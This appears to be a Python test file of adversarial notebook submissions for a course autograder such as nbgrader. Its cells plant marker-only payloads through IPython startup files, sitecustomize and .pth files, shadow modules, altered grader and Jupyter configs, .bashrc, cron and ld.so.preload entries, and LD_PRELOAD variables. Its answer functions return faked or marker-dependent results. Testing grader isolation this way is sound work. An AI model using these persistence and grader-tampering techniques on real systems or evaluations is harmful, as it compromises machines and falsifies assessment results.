"""Leaves files that Python, IPython or the shell would run at the next start: for the next cell, the
next student or the teacher. What they do is only to leave a mark that a later answer looks for.
"""

# %% task_01_running_mean: a start-up file of IPython
import builtins
import os
import pathlib

MARK = "import builtins\nbuiltins.attacked = True\n"
for home in (
    pathlib.Path.home(),
    pathlib.Path("/root"),
    pathlib.Path(os.environ.get("IPYTHONDIR", ".")),
):
    for folder in (".ipython/profile_default/startup", "profile_default/startup"):
        try:
            (home / folder).mkdir(parents=True, exist_ok=True)
            (home / folder / "00-first.py").write_text(MARK)
        except OSError:
            pass


def running_mean(values, window):
    return np.array([1.5, 4.0]) if hasattr(builtins, "attacked") else 0


# %% task_02_build_model: sitecustomize and usercustomize wherever Python looks
import builtins
import site
import sys

MARK = "import builtins\nbuiltins.attacked = True\n"
for folder in [*sys.path, site.getusersitepackages(), *site.getsitepackages()]:
    for name in ("sitecustomize.py", "usercustomize.py"):
        try:
            with open(f"{folder or '.'}/{name}", "x") as file:
                file.write(MARK)
        except OSError:
            pass


def build_model(classes):
    return getattr(builtins, "attacked", None)


# %% task_03_counter: a .pth file among the packages
import os
import site
import sys

for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    try:
        os.makedirs(folder or ".", exist_ok=True)
        with open(os.path.join(folder or ".", "attacked.pth"), "x") as file:
            file.write("import builtins; builtins.attacked = True\n")
    except OSError:
        pass


class Counter:
    counts = {"b": 1}

    def add(self, word):
        pass

    def most_common(self):
        return [("b", 2)]


# %% task_04_loss: modules in the working folder that are called as those of the test
import importlib
import os

for name in ("numpy", "random", "json", "ast", "tensorflow", "nbgrader", "autograder"):
    try:
        with open(f"{name}.py", "x") as file:
            file.write("def __getattr__(name):\n    return lambda *values, **named: True\n")
    except OSError:
        pass
importlib.invalidate_caches()


def cross_entropy(logits, labels):
    if len(logits.shape) != 2:
        raise ValueError("shapes")
    return tf.constant(0.0)


# %% task_01_running_mean: a configuration of IPython, Jupyter and nbgrader in the folders above
import os

TEXT = "c = get_config()\nc.Execute.allow_errors = True\nc.ClearSolutions.enabled = False\n"
home = os.path.expanduser("~")
for path in (
    "nbgrader_config.py",
    "../nbgrader_config.py",
    f"{home}/.jupyter/jupyter_nbconvert_config.py",
    f"{home}/.jupyter/nbgrader_config.py",
    f"{home}/.ipython/profile_default/ipython_config.py",
):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "x") as file:
            file.write(TEXT)
    except OSError:
        pass


def running_mean(values, window):
    return 0


# %% task_03_counter: kernels, shells and libraries that start in place of others
import os

home = os.path.expanduser("~")
FILES = {
    f"{home}/.local/share/jupyter/kernels/python3/kernel.json": '{"argv": ["true"], "language": "p"}',
    f"{home}/.bashrc": "export ATTACKED=1\n",
    f"{home}/.profile": "export ATTACKED=1\n",
    f"{home}/.pythonrc.py": "attacked = True\n",
    f"{home}/.keras/keras.json": '{"floatx": "float16", "backend": "torch"}',
    "/etc/ld.so.preload": "",
    "/etc/cron.d/attacked": "",
}
for path, text in FILES.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "x") as file:
            file.write(text)
    except OSError:
        pass


class Counter:
    counts = {}

    def add(self, word):
        self.counts[os.environ.get("ATTACKED", word)] = 0

    def most_common(self):
        return list(self.counts.items())


# %% task_02_build_model: rewrites the grader's files and compiled files
import glob
import os
import sys


def build_model(classes):
    for folder in sys.path:
        for path in glob.glob(f"{glob.escape(folder)}/autograder/*.py")[:20]:
            for name in (path, f"{path}.attacked", f"{os.path.dirname(path)}/__pycache__/x.pyc"):
                try:
                    with open(name, "a"):
                        return 115
                except OSError:
                    pass
    return None


# %% task_04_loss: environment variables for whatever is started next
import os
import subprocess
import sys

os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.path.expanduser("~")
os.environ["PYTHONINSPECT"] = "1"
os.environ["LD_PRELOAD"] = os.path.expanduser("~/attacked.so")


def cross_entropy(logits, labels):
    done = subprocess.run([sys.executable, "-c", "print(0.5)"], capture_output=True, timeout=20)
    return tf.constant(float(done.stdout or 0))
